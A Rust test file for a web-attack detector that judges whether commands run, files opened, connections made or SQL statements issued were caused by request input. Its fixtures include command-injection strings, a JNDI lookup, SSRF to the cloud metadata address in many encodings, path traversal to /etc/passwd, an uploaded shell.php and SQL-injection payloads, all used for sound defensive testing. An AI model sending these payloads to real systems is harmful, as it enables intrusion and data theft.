//! What proves an attack, and what does not.

use clew_event::Text;

use super::*;

fn request(path: &str, query: &str) -> HttpRequest {
    HttpRequest {
        method: "GET".into(),
        path: path.into(),
        query: query.into(),
        ..HttpRequest::default()
    }
}

fn cause(request: HttpRequest, probability: f64) -> Cause {
    Cause { exchange: EventId::default(), request: Arc::new(request), probability }
}

fn bits(effect: &Effect<'_>, query: &str) -> f64 {
    let mut found = Vec::new();
    judge(effect, &[cause(request("/a", query), 1.0)], &mut found);
    assert!(found.len() <= 1);
    found.first().map_or(0.0, |it| it.bits)
}

fn ran(words: &[&str], query: &str) -> f64 {
    let argv: Vec<Text> = words.iter().map(|&word| Text::from(word)).collect();
    let exe = format!("/usr/bin/{}", words.first().unwrap_or(&""));
    bits(&Effect::Executed { exe: exe.as_bytes(), argv: &argv, is_dropped: false }, query)
}

#[test]
fn tells_syntax_that_a_shell_was_given() {
    assert!(15.0 < ran(&["sh", "-c", "ping -c1 x;cat /etc/passwd"], "h=x;cat+/etc/passwd"));
    assert!(15.0 < ran(&["sh", "-c", "echo \"a$(id)\""], "q=$(id)"));
    assert!(14.0 < ran(&["bash", "-lc", "id"], "cmd=id"));
    assert!(13.0 < ran(&["cat", "/etc/passwd"], "h=x%3Bcat+/etc/passwd"));
    assert!(8.0 < ran(&["tar", "-xf", "a", "--to-command=sh"], "f=--to-command=sh"));
}

#[test]
fn says_nothing_where_an_argument_is_one_word() {
    assert_eq!(ran(&["convert", "a;id.png", "out.png"], "f=a;id.png"), 0.0);
    assert_eq!(ran(&["sh", "-c", "convert 'a;id.png' out.png"], "f=a;id.png"), 0.0);
    assert_eq!(ran(&["sh", "-c", "convert a\\;id.png out.png"], "f=a;id.png"), 0.0);
    assert_eq!(ran(&["sh", "-c", "convert photo.png out.png"], "f=photo.png"), 0.0);
    assert_eq!(ran(&["sh", "-c", "make report; make clean"], "q=report"), 0.0);
    assert_eq!(ran(&["git", "log", "--", "--output=x"], "f=--output=x"), 0.0);
    assert_eq!(ran(&["id"], "q=;ls"), 0.0);
}

#[test]
fn tells_code_that_starts_a_shell_with_the_doubt_that_is_left() {
    let argv = [Text::from("sh"), Text::from("-i")];
    let effect = Effect::Executed { exe: b"/bin/sh", argv: &argv, is_dropped: false };
    let query = "x=$%7Bjndi:ldap://a/b%7D";
    let mut found = Vec::new();
    judge(&effect, &[cause(request("/", query), 0.25)], &mut found);
    assert_eq!(found.first().map(|it| it.bits), Some(7.0));
    assert_eq!(bits(&effect, "x=hello"), 0.0);
    // A body that is one serialized object looks like the name of a field.
    assert_eq!(bits(&effect, "rO0ABXNyAApBcHAkR2FkZ2V0AAAA+/8="), 9.0);
    assert_eq!(ran(&["sh", "-c", "ping '${jndi:ldap://a/b}'"], query), 0.0);
    assert_eq!(ran(&["curl", "${jndi:ldap://a/b}"], query), 0.0);
}

#[test]
fn a_piece_that_matches_undoes_the_doubt() {
    let effect = Effect::Resolved { name: b"db.internal" };
    let causes = [
        cause(request("/", "u=http://other.internal/"), 0.9),
        cause(request("/", "u=http://db.internal/"), 0.1),
    ];
    let mut found = Vec::new();
    judge(&effect, &causes, &mut found);
    assert_eq!(found.iter().map(|it| it.bits).collect::<Vec<_>>(), [10.0]);
    let many = vec![cause(request("/", "u=x"), 0.001); CAUSES_MAX];
    let late: Vec<Cause> = many.into_iter().chain(causes).collect();
    let mut found = Vec::new();
    judge(&effect, &late, &mut found);
    assert!(found.is_empty());
}

#[test]
fn long_requests_are_passed_over_and_counted_but_for_the_likeliest() {
    let effect = Effect::Resolved { name: b"db.internal" };
    let long = "x".repeat(REQUESTS_BYTES_MAX);
    let asked = |probability, filler: &str| {
        cause(request("/", &format!("u=http://db.internal/&f={filler}")), probability)
    };
    let mut found = Vec::new();
    assert_eq!(judge(&effect, &[asked(0.4, ""), asked(0.6, &long)], &mut found), 1);
    let half = long.get(..REQUESTS_BYTES_MAX / 2 - 99).unwrap_or_default();
    assert_eq!(judge(&effect, &[asked(0.5, half), asked(0.5, half)], &mut found), 0);
    assert_eq!(
        judge(&effect, &[asked(0.5, half), asked(0.4, half), asked(0.1, "y")], &mut found),
        0
    );
    assert_eq!(judge(&effect, &vec![asked(0.2, half); 5], &mut found), 3);
    assert_eq!(found.len(), 4);
}

fn connected(peer: &str, query: &str) -> f64 {
    let peer = peer.parse().expect("an address");
    bits(&Effect::Connected { peer, names: &[Text::from("api.example")] }, query)
}

#[test]
fn knows_an_address_in_any_notation() {
    for host in [
        "169.254.169.254",
        "2852039166",
        "0xA9FEA9FE",
        "0251.0376.0251.0376",
        "169.16689662",
        "[::ffff:a9fe:a9fe]",
        "user@169.254.169.254",
        "evil.example:80@169.254.169.254",
    ] {
        let query = format!("u=http://{host}/latest/meta-data/");
        assert!(15.0 <= connected("169.254.169.254:80", &query), "{host}");
    }
    assert_eq!(connected("127.0.0.1:8080", "u=http%3A%2F%2Flocalhost%3A8080%2F"), 12.0);
    assert_eq!(connected("10.0.0.5:80", "u=http://10.0.0.5/"), 10.0);
    assert_eq!(connected("192.0.2.7:443", "u=https://api.example/x"), 6.0);
}

#[test]
fn says_nothing_of_connections_that_no_argument_names() {
    assert_eq!(connected("127.0.0.1:5432", "next=http://localhost:8080/"), 0.0);
    assert_eq!(connected("10.0.0.5:80", "q=10.0.0.6"), 0.0);
    assert_eq!(connected("169.254.169.254:80", "q=hello"), 0.0);
    let many = format!("u={}http://10.0.0.5/", "http://a/".repeat(host::HOSTS_MAX));
    assert_eq!(connected("10.0.0.5:80", &many), 0.0);
}

#[test]
fn tells_outbound_requests_to_named_hosts() {
    let sent =
        HttpRequest { host: "10.1.2.3:9000".into(), path: "/x".into(), ..HttpRequest::default() };
    let effect = Effect::Requested { request: &sent, peer: "10.1.2.3:9000".parse().ok() };
    assert_eq!(bits(&effect, "u=http://10.1.2.3:9000/x"), 10.0);
    assert_eq!(bits(&effect, "u=http://10.1.2.3:9001/x"), 0.0);
}

fn opened(path: &str, request_path: &str, query: &str) -> f64 {
    let (path, given) = (path.as_bytes(), path.as_bytes());
    let mut found = Vec::new();
    let effect = Effect::File { path, given, is_written: false };
    judge(&effect, &[cause(request(request_path, query), 1.0)], &mut found);
    found.first().map_or(0.0, |it| it.bits)
}

#[test]
fn tells_paths_that_climb_and_stays_silent_below_the_root() {
    assert_eq!(opened("/etc/passwd", "/a", "f=../../etc/passwd"), 14.0);
    assert_eq!(opened("/etc/passwd", "/a", "f=..%252f..%252fetc%252fpasswd"), 14.0);
    assert_eq!(opened("/etc/passwd", "/..%2f..%2fetc/passwd", ""), 14.0);
    assert_eq!(opened("/etc/passwd", "/a", "f=....//../etc/passwd%00.png"), 14.0);
    assert_eq!(opened("/etc/passwd", "/a", "f=/etc/passwd"), 12.0);
    assert_eq!(opened("/etc/passwd", "/a", "f=php://filter/convert/resource=/etc/passwd"), 12.0);
    assert_eq!(opened("/var/www/css/a.css", "/css/a.css", ""), 0.0);
    assert_eq!(opened("/var/www/img/a.png", "/css/../img/a.png", ""), 0.0);
    assert_eq!(opened("/etc/passwd", "/a", "f=../../etc/hosts"), 0.0);
    assert_eq!(opened("/etc/passwd", "/a", "q=passwd"), 0.0);
}

#[test]
fn tells_programs_that_are_uploaded_and_run() {
    let path = b"/var/www/html/up/shell.php";
    let effect = Effect::File { path, given: path, is_written: true };
    assert!(8.0 < bits(&effect, "name=shell.php"));
    assert_eq!(bits(&effect, "name=photo.png"), 0.0);
    let effect =
        Effect::Executed { exe: b"/tmp/x", argv: &[Text::from("/tmp/x")], is_dropped: true };
    assert!(8.0 < bits(&effect, "q=1"));
}

fn queried(statement: &str, query: &str) -> f64 {
    bits(&Effect::Queried { statement: statement.as_bytes(), system: "mysql" }, query)
}

#[test]
fn tells_statements_whose_structure_a_piece_changed() {
    let or = "SELECT * FROM t WHERE a='x' OR '1'='1'";
    assert_eq!(queried(or, "a=x'+OR+'1'='1"), 16.0);
    assert_eq!(
        queried("SELECT a FROM t WHERE id=1 UNION SELECT p FROM u", "id=1+UNION+SELECT+p+FROM+u"),
        16.0
    );
    assert_eq!(queried("SELECT 1 FROM u WHERE n='admin'-- ' AND p='x'", "n=admin'--"), 16.0);
}

#[test]
fn says_nothing_of_values_that_stay_values() {
    assert_eq!(queried("SELECT * FROM t WHERE a='x'' OR ''1''=''1'", "a=x'+OR+'1'='1"), 0.0);
    assert_eq!(queried("SELECT * FROM t WHERE a='x\\' OR 1=1'", "a=x'+OR+1=1"), 0.0);
    assert_eq!(queried("SELECT * FROM t WHERE a='hello; world -- x'", "a=hello;+world+--+x"), 0.0);
    assert_eq!(queried("SELECT * FROM t WHERE id IN (1,2,3)", "ids=1,2,3"), 0.0);
    assert_eq!(queried("SELECT * FROM t ORDER BY name", "s=name"), 0.0);
    assert_eq!(queried("SELECT * FROM t WHERE day > 2026-01-02", "d=2026-01-02"), 0.0);
    assert_eq!(queried("SELECT * FROM t WHERE k IN ('a','b')", "k='a','b'"), 0.0);
    const { assert!(fragment::PIECE_BYTES_MIN < statement::PIECE_BYTES_MIN) };
}

#[test]
fn reads_scripts_statements_and_pieces_to_their_bounds_only() {
    let far = "x".repeat(command::SCRIPT_BYTES_MAX);
    assert_eq!(ran(&["sh", "-c", &format!("{far};id>/tmp/x")], "q=;id>/tmp/x"), 0.0);
    let far = format!("SELECT '{}' OR 1=1", "x".repeat(statement::STATEMENT_BYTES_MAX));
    assert_eq!(queried(&far, "q=x'+OR+1=1"), 0.0);
    let far = "a;".repeat(command::COMMANDS_MAX);
    assert_eq!(ran(&["id"], &format!("q={far}id")), 0.0);
}

#[test]
fn tells_a_bounded_piece_of_what_was_done() {
    let long = "x".repeat(999);
    let script = format!("echo a;id>{long}");
    let argv = [Text::from("sh"), Text::from("-c"), Text::from(script.as_str())];
    let effect = Effect::Executed { exe: b"/bin/sh", argv: &argv, is_dropped: false };
    let query = format!("q=a;id>{long}");
    let mut found = Vec::new();
    judge(&effect, &[cause(request("/", &query), 1.0)], &mut found);
    let statement = format!("SELECT 'a' OR 1=1 -- {long}");
    let effect = Effect::Queried { statement: statement.as_bytes(), system: "mysql" };
    judge(&effect, &[cause(request("/", &format!("q=a'+OR+1=1+--+{long}")), 1.0)], &mut found);
    assert_eq!(found.len(), 2);
    for it in found {
        let most = command::SHOWN_BYTES_MAX.max(statement::SHOWN_BYTES_MAX) + MATCH_BYTES_MAX;
        assert!(it.output.matches('x').count() < most, "{}", it.output);
    }
    let name = |length: usize| "a.".repeat(length / 2) + "b";
    for (length, is_told) in [(host::HOST_BYTES_MAX - 1, true), (host::HOST_BYTES_MAX + 1, false)] {
        let name = name(length);
        let effect = Effect::Resolved { name: name.as_bytes() };
        assert_eq!(0.0 < bits(&effect, &format!("u=http://{name}/")), is_told);
    }
}
